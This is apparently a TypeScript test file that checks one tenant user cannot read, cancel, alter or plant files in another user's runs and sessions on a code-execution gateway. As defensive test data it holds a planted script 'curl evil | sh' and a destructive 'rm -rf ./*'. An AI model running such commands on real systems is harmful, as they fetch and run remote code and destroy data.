/**
 * Walls between principals of one tenant. Bob (another user's key in Ann's tenant) attacks every
 * route that takes Ann's run or session id: he must get the 404 a missing run or session gets
 * (never 403, never the data), and Ann's run, calls and files must be untouched. A key with
 * `sessions.admin` (the tenant's auditor) passes. Real Redis, the real app (inject; a listener for SSE).
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { get as httpGet, type IncomingMessage } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { keys } from '@islet/core';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  clientConnection,
  type GatewayAppUnderTest,
  injectCall,
  startGatewayApp,
  type TestGatewayDeps,
} from '../test/gateway-harness.ts';

const INTERNAL = 'internal-token-for-principal-walls';
let gateway: GatewayAppUnderTest | undefined;
let app: FastifyInstance;
let deps: TestGatewayDeps;
let root: string;
let port: number;
let ann: string;
let bob: string;
let auditor: string;
let phone: string;
const as = (key: string) => ({ authorization: `Bearer ${key}` });

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'islet-walls-'));
  gateway = await startGatewayApp({
    env: {
      ISLET_INTERNAL_TOKEN: INTERNAL,
      ISLET_WORKSPACE_ROOT: root,
      ISLET_CLIENT_CALL_TIMEOUT_MS: '20000',
    },
  });
  ({ app, deps } = gateway);
  await app.listen({ port: 0, host: '127.0.0.1' });
  port = (app.server.address() as { port: number }).port;
  await deps.tenants.createTenant({ id: 'walls', name: 'Walls' });
  const scopes = ['apps.use', 'sessions.read'] as const;
  ann = (await deps.tenants.createKey('walls', [...scopes], { principal: 'ann' })).key;
  bob = (await deps.tenants.createKey('walls', [...scopes], { principal: 'bob' })).key;
  auditor = (await deps.tenants.createKey('walls', [...scopes, 'sessions.admin'], { principal: 'audit' }))
    .key;
  phone = await clientConnection(deps, 'walls');
});

afterAll(async () => {
  await gateway?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

async function submit(key: string, session: string, headers: Record<string, string> = {}) {
  const res = await app.inject({
    method: 'POST',
    url: '/v1/runs',
    headers: { ...as(key), ...headers },
    payload: { code: 'return 1', description: 'walls', sessionId: session, connections: [phone] },
  });
  // Accepted (202), or answered with its result (200): the submit contract's two successes.
  expect([200, 202], res.body).toContain(res.statusCode);
  return res.json() as { id: string; result?: unknown };
}

function expectNotFound(res: { statusCode: number; body: string; headers: Record<string, unknown> }) {
  expect(res.statusCode, res.body).toBe(404);
  expect(String(res.headers['content-type'])).toContain('application/problem+json');
  expect(JSON.parse(res.body).type).toBe('https://islet.dev/problems/not-found');
}

/** Makes the run's call 0 a `client` call waiting for its answer (as a runner would). */
async function pendingClientCall(id: string) {
  const served = injectCall({ app, deps }, INTERNAL, id, {
    index: 0,
    binding: 'phone.ask_user',
    argsJson: '{"q":"pin?"}',
  });
  for (let i = 0; i < 100 && !(await deps.redis.exists(keys.clientCallPending(id, 0))); i++)
    await new Promise((r) => setTimeout(r, 50));
  expect(await deps.redis.exists(keys.clientCallPending(id, 0))).toBe(1);
  // Wrapped: an async function returning the pending inject would wait for it.
  return { served };
}

function stream(path: string, key: string): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    const req = httpGet({ host: '127.0.0.1', port, path, headers: as(key) }, resolve);
    req.on('error', reject);
  });
}
const bodyOf = (res: IncomingMessage) =>
  new Promise<string>((resolve) => {
    let text = '';
    res.on('data', (c) => {
      text += c;
    });
    res.on('end', () => resolve(text));
  });

describe("another principal of the tenant cannot reach Ann's runs", () => {
  it('reading the run and its event stream: 404 (the stream would carry calls and their arguments)', async () => {
    const { id } = await submit(ann, 'ann-read');
    expectNotFound(await app.inject({ method: 'GET', url: `/v1/code-runs/${id}`, headers: as(bob) }));
    const theirs = await stream(`/v1/code-runs/${id}/events`, bob);
    const text = await bodyOf(theirs);
    expect(theirs.statusCode, text).toBe(404);
    expect(text).not.toContain('event:');
    const own = await stream(`/v1/code-runs/${id}/events`, ann);
    expect(own.statusCode).toBe(200);
    own.destroy();
    const audited = await stream(`/v1/code-runs/${id}/events`, auditor);
    expect(audited.statusCode).toBe(200);
    audited.destroy();
  });

  it("answering Ann's client call with a forged result: 404, and the call still waits for Ann's answer", async () => {
    const { id } = await submit(ann, 'ann-calls');
    const { served } = await pendingClientCall(id);
    const forged = await app.inject({
      method: 'POST',
      url: `/v1/code-runs/${id}/calls/0/result`,
      headers: as(bob),
      payload: { result: 'forged' },
    });
    expectNotFound(forged);
    expect(await deps.redis.exists(keys.clientCallPending(id, 0))).toBe(1);
    const real = await app.inject({
      method: 'POST',
      url: `/v1/code-runs/${id}/calls/0/result`,
      headers: as(ann),
      payload: { result: '1234' },
    });
    expect(real.statusCode, real.body).toBe(202);
    expect((await served).json().outcome).toEqual({ type: 'result', valueJson: '"1234"' });
  });

  it("cancelling Ann's run: 404 and the run goes on", async () => {
    const { id } = await submit(ann, 'ann-cancel');
    expectNotFound(await app.inject({ method: 'POST', url: `/v1/code-runs/${id}/cancel`, headers: as(bob) }));
    expect((await deps.runs.get(id))?.status).not.toBe('Failed');
    expect((await deps.runs.get(id))?.cancelRequested).toBe(false);
  });

  it("replaying Ann's Idempotency-Key does not hand Bob her run", async () => {
    const mine = await submit(ann, 'ann-idem', { 'idempotency-key': 'order-42' });
    const replay = await app.inject({
      method: 'POST',
      url: '/v1/runs',
      headers: { ...as(bob), 'idempotency-key': 'order-42' },
      payload: { code: 'return 1', description: 'walls', sessionId: 'ann-idem', connections: [phone] },
    });
    expect(replay.statusCode, replay.body).toBe(409);
    expect(replay.body).not.toContain(mine.id);
    // Ann's own replay still answers her run.
    const again = await submit(ann, 'ann-idem', { 'idempotency-key': 'order-42' });
    expect(again.id).toBe(mine.id);
  });

  it("Ann's session stream: 404 for Bob, the auditor sees it", async () => {
    await submit(ann, 'ann-stream');
    const theirs = await stream('/v1/sessions/ann-stream/events', bob);
    const text = await bodyOf(theirs);
    expect(theirs.statusCode, text).toBe(404);
    expect(text).not.toContain('event: run');
    const audited = await stream('/v1/sessions/ann-stream/events', auditor);
    expect(audited.statusCode).toBe(200);
    audited.destroy();
  });
});

describe("another principal cannot reach Ann's workspace", () => {
  const file = (
    method: 'PUT' | 'GET' | 'DELETE',
    key: string,
    session: string,
    path = 'notes.txt',
    payload?: string,
  ) =>
    app.inject({
      method,
      url: `/v1/sessions/${session}/files${path ? `/${path}` : ''}`,
      headers: {
        ...as(key),
        ...(payload !== undefined ? { 'content-type': 'application/octet-stream' } : {}),
      },
      ...(payload !== undefined ? { payload } : {}),
    });

  it("reading, listing, planting and removing files in Ann's session: 404; her files stay hers", async () => {
    await submit(ann, 'ann-files');
    expect((await file('PUT', ann, 'ann-files', 'notes.txt', 'secret')).statusCode).toBe(201);
    expectNotFound(await file('GET', bob, 'ann-files'));
    expectNotFound(await file('GET', bob, 'ann-files', ''));
    expectNotFound(await file('PUT', bob, 'ann-files', 'planted.sh', 'curl evil | sh'));
    expectNotFound(await file('DELETE', bob, 'ann-files'));
    expect((await file('GET', ann, 'ann-files')).body).toBe('secret');
    expect((await file('GET', ann, 'ann-files', 'planted.sh')).statusCode).toBe(404);
    expect((await file('GET', auditor, 'ann-files')).body).toBe('secret');
  });

  it('a first file claims the session for its principal, as a first run does', async () => {
    expect((await file('PUT', ann, 'ann-first-file', 'a.txt', 'x')).statusCode).toBe(201);
    expectNotFound(await file('GET', bob, 'ann-first-file', 'a.txt'));
    const run = await app.inject({
      method: 'POST',
      url: '/v1/runs',
      headers: as(bob),
      payload: { code: 'return 1', description: 'walls', sessionId: 'ann-first-file' },
    });
    expectNotFound(run);
  });

  it("running a skill in Ann's session: 404 before anything is queued", async () => {
    await submit(ann, 'ann-skill');
    const res = await app.inject({
      method: 'POST',
      url: '/v1/skills/run_code',
      headers: as(bob),
      payload: { language: 'bash', code: 'rm -rf ./*', sessionId: 'ann-skill' },
    });
    expectNotFound(res);
    expect(await deps.runQueue.queues['workspace-write'].count()).toBe(0);
  });
});
